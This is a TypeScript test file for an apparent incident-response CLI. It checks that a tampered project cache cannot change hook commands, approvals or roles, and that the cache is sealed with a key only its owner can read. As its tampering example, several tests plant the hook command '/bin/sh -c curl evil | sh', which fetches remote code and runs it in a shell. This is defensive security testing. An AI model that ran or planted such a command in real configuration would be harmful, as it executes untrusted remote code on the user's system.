import { chmodSync, chownSync, readdirSync, readFileSync, renameSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { sealText } from '../src/app/cache-seal.js';
import { loadProject } from '../src/app/project.js';
import { readCachedProject, writeCachedProject } from '../src/app/project-cache.js';
import { aiops } from './helpers/cli.js';
import { makeHookProject, readDumps } from './helpers/hook-project.js';
import { makeProject, type TempProject } from './helpers/project.js';

const VERSION = 'test';
let project: TempProject;
afterEach(() => project?.cleanup());

/** Warms the cache as any clean command would, then lets the test edit the cache file's JSON. */
function warmThenEdit(edit: (entry: any) => void): { cwd: string; env: NodeJS.ProcessEnv } {
  project = makeProject({ withScenarios: false });
  const where = { cwd: project.dir, env: { AIOPS_DB: '' } as NodeJS.ProcessEnv };
  writeCachedProject(where, loadProject(where), VERSION);
  const file = join(project.dir, '.aiops', 'project-cache.json');
  const entry = JSON.parse(readFileSync(file, 'utf8'));
  edit(entry);
  writeFileSync(file, JSON.stringify(entry));
  return where;
}

describe('the project cache is not trusted for who may run what (issue 17)', () => {
  it('an untouched cache is used by a command that acts', async () => {
    const where = warmThenEdit(() => {});
    expect((await readCachedProject(where, VERSION))?.config.hooks?.['pause-feature']?.command[0]).toBe('./fixtures/hooks/feature-flag.sh');
  });

  it("a cache whose hook command was edited is not used: the command comes from aiops.yaml", async () => {
    // Given a warm cache in which someone changed the command a hook runs
    const where = warmThenEdit((e) => {
      e.project.config.hooks['pause-feature'].command = ['/bin/sh', '-c', 'curl evil | sh'];
    });
    // When a command that acts loads the project, Then the cache is refused and YAML is read again
    expect(await readCachedProject(where, VERSION)).toBeNull();
    expect(loadProject(where).config.hooks?.['pause-feature']?.command[0]).toBe('./fixtures/hooks/feature-flag.sh');
  });

  it('a cache whose approve floor, playbook step approvals or roles were edited is not used', async () => {
    const floors = warmThenEdit((e) => delete e.project.config.hooks['pause-feature'].approve);
    expect(await readCachedProject(floors, VERSION)).toBeNull();
    project.cleanup();
    const steps = warmThenEdit((e) => {
      const step = e.project.playbooks.flatMap((p: any) => p.playbook.steps).find((s: any) => s.kind === 'action');
      step.approve = [];
      step.hook = 'resume-feature';
    });
    expect(await readCachedProject(steps, VERSION)).toBeNull();
    project.cleanup();
    const roles = warmThenEdit((e) => {
      const [name] = Object.keys(e.project.roster.people);
      e.project.roster.people[name].roles = ['commander', 'scribe', 'comms', 'ops', 'security'];
    });
    expect(await readCachedProject(roles, VERSION)).toBeNull();
  });

  it('a command on an incident already open re-checks aiops.yaml and the roster, not the playbooks it does not use', async () => {
    // Its steps come from the playbook pinned in the log, so an edited cached playbook cannot reach it
    const steps = warmThenEdit((e) => {
      const step = e.project.playbooks.flatMap((p: any) => p.playbook.steps).find((s: any) => s.kind === 'action');
      step.hook = 'resume-feature';
    });
    expect(await readCachedProject({ ...steps, pinned: true }, VERSION)).not.toBeNull();
    expect(await readCachedProject(steps, VERSION)).toBeNull();
    project.cleanup();
    // while an edited hook command or role is refused for it as for any command that acts
    const hook = warmThenEdit((e) => (e.project.config.hooks['pause-feature'].command = ['/bin/sh', '-c', 'curl evil | sh']));
    expect(await readCachedProject({ ...hook, pinned: true }, VERSION)).toBeNull();
    project.cleanup();
    const roles = warmThenEdit((e) => (e.project.roster.people[Object.keys(e.project.roster.people)[0]!].roles = ['commander', 'reviewer']));
    expect(await readCachedProject({ ...roles, pinned: true }, VERSION)).toBeNull();
  });

  it('a listing (read-only) still takes the cache without re-reading YAML', async () => {
    const where = warmThenEdit(() => {});
    expect(await readCachedProject({ ...where, readOnly: true }, VERSION)).not.toBeNull();
  });
});

describe('an edited cached playbook cannot reach an incident already open (its playbook is pinned)', () => {
  it('approving a step fires the pinned hook, not the one the cache names', async () => {
    // Given an open incident, and a cache in which someone pointed the pause step at another hook
    project = makeHookProject();
    const started = await aiops(project, ['incident', 'start', '--trigger', 'data_leakage', '--title', 'Tenant B saw invoices', '--json'], { as: 'alice' });
    expect(started.exitCode, started.stderr).toBe(0);
    const id = started.json().incident.id as string;
    const file = join(project.dir, '.aiops', 'project-cache.json');
    const entry = JSON.parse(readFileSync(file, 'utf8'));
    for (const p of entry.project.playbooks) for (const s of p.playbook.steps) if (s.id === 'pause') s.hook = 'dump';
    writeFileSync(file, JSON.stringify(entry));
    // When the commander approves the pause step
    const approved = await aiops(project, ['incident', 'approve', id, 'pause', '--json'], { as: 'alice' });
    expect(approved.exitCode, approved.stderr).toBe(0);
    // Then the pinned hook ran, and the one the cache named did not
    const shown = await aiops(project, ['incident', 'show', id, '--json']);
    const pause = shown.json().incident.steps.find((s: { id: string }) => s.id === 'pause');
    expect(pause.hook).toBe('pause-feature');
    expect(JSON.stringify(approved.json())).toContain('pause-feature');
    expect(readdirSync(project.stateDir)).toContain('feature-flags');
    expect(readDumps(project.stateDir)).toEqual([]);
  });
});

describe('the cache this user wrote is sealed with a key only this user can read', () => {
  /** Someone who holds the key edits the cache and seals it again (only this user can). */
  const editAndReseal = (edit: (entry: any) => void) =>
    warmThenEdit((e) => {
      edit(e);
      const { seal: _old, ...entry } = e;
      e.seal = sealText(join(project.dir, '.aiops'), JSON.stringify(entry));
    });
  const evil = (e: any) => (e.project.config.hooks['pause-feature'].command = ['/bin/sh', '-c', 'curl evil | sh']);
  const keyFile = () => join(project.dir, '.aiops', `cache-key-${process.getuid!()}`);

  it('writes a 32-byte key readable by this user alone, and a seal in the cache', () => {
    warmThenEdit(() => {});
    const st = statSync(keyFile());
    expect(st.size).toBe(32);
    expect(st.mode & 0o777).toBe(0o600);
    expect(JSON.parse(readFileSync(join(project.dir, '.aiops', 'project-cache.json'), 'utf8')).seal).toMatch(/^[0-9a-f]{64}$/);
  });

  it('a sealed entry is used without re-reading the YAML: an edit sealed with the key is taken as written', async () => {
    // (the proof that the seal, not a re-check, is what a command that acts relies on)
    const where = editAndReseal(evil);
    expect((await readCachedProject(where, VERSION))?.config.hooks?.['pause-feature']?.command).toEqual(['/bin/sh', '-c', 'curl evil | sh']);
  });

  it('a key others can read, a key reached through a link, or a key another user owns seals nothing', async () => {
    const readable = editAndReseal(evil);
    chmodSync(keyFile(), 0o640);
    expect(await readCachedProject(readable, VERSION)).toBeNull();
    project.cleanup();

    const linked = editAndReseal(evil);
    renameSync(keyFile(), `${keyFile()}.real`);
    symlinkSync(`${keyFile()}.real`, keyFile());
    expect(await readCachedProject(linked, VERSION)).toBeNull();
    project.cleanup();

    if (process.getuid!() === 0) {
      const foreign = editAndReseal(evil);
      chownSync(keyFile(), 65534, 65534);
      expect(await readCachedProject(foreign, VERSION)).toBeNull();
    }
  });
});
